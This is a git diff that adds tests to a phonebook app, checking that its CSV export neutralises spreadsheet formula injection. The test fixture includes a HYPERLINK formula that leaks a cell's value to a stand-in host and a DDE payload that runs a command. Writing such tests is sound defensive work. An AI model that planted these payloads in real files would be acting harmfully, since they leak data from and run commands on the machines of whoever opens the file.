@@ -1,5 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
+import { parse } from 'csv-parse/sync';
+import { contacts } from '../../db/schema.ts';
 import { makeUser } from '../../../test/factories.ts';
 import { call, dbLabel, testApp, testConfig } from '../../../test/helpers.ts';
 import { PGLITE_COPY_ROWS } from './bulk.copy.ts';
@@ -222,5 +224,64 @@ describe(`bulk import and export (${dbLabel})`, () => {
     assert.equal(res.statusCode, 400, res.body.slice(0, 500));
     assert.deepEqual(res.data, { file: ['The header has 10001 columns; a file may have at most 1000.'] });
     assert.equal((await contactsOf(db, pb)).length, 0);
+  });
+
+  describe('CSV exports are safe to open in a spreadsheet', () => {
+    const hostile = [
+      '=HYPERLINK("http://example.test/?leak="&A1,"Click")',
+      '@SUM(1)',
+      "-2+3+cmd|' /C calc'!A0",
+      '+1+1',
+      '\tTabbed',
+      "'=already quoted",
+      'Plain name',
+    ];
+
+    /** A phonebook of alice whose contacts carry the hostile names, and +E.164 numbers. */
+    async function hostileBook() {
+      const pb = await makePhonebook(db, alice.id);
+      await db.insert(contacts).values(
+        hostile.map((full_name, i) => ({ phonebook_id: pb, contact: `+1203555010${i}`, full_name, additional_vars: { note: full_name } })),
+      );
+      return pb;
+    }
+    const exportOf = async (pb: number, query = '') => {
+      const res = await call(t.app, alice.auth, 'GET', `/rest-api/phonebook/${pb}/export/${query}`);
+      assert.equal(res.statusCode, 200, res.body);
+      return { body: res.body, rows: parse(res.body, { relax_column_count: true }) as string[][] };
+    };
+
+    test('formula-like names are exported behind a quote; numbers and plain text are not touched', async () => {
+      const { rows } = await exportOf(await hostileBook());
+      assert.deepEqual(rows.slice(1).map((r) => r[1]), [
+        '\'=HYPERLINK("http://example.test/?leak="&A1,"Click")',
+        "'@SUM(1)",
+        "'-2+3+cmd|' /C calc'!A0",
+        "'+1+1",
+        "'\tTabbed",
+        "''=already quoted",
+        'Plain name',
+      ]);
+      // A plain number (+, digits) runs nothing in a spreadsheet: left as it is (src/http/csv.ts).
+      assert.deepEqual(rows.slice(1).map((r) => r[0]), hostile.map((_, i) => `+1203555010${i}`));
+    });
+
+    test('?csv_injection_safe=false exports the values exactly as stored; another value is 400', async () => {
+      const pb = await hostileBook();
+      const { rows } = await exportOf(pb, '?csv_injection_safe=false');
+      assert.deepEqual(rows.slice(1).map((r) => r[1]), hostile);
+      const bad = await call(t.app, alice.auth, 'GET', `/rest-api/phonebook/${pb}/export/?csv_injection_safe=maybe`);
+      assert.equal(bad.statusCode, 400, bad.body);
+      assert.deepEqual(bad.data, { csv_injection_safe: ['Must be a valid boolean.'] });
+    });
+
+    test('the safe export imports back into the same contacts (export → import is lossless)', async () => {
+      const source = await hostileBook();
+      const copy = await makePhonebook(db, alice.id);
+      const res = await upload(t.app, alice.auth, importUrl(copy), (await exportOf(source)).body);
+      assert.equal(res.statusCode, 201, res.body);
+      assert.deepEqual(await contactsOf(db, copy), await contactsOf(db, source));
+      assert.deepEqual((await contactsOf(db, copy)).map((c) => c.full_name), hostile);
+    });
   });
 });
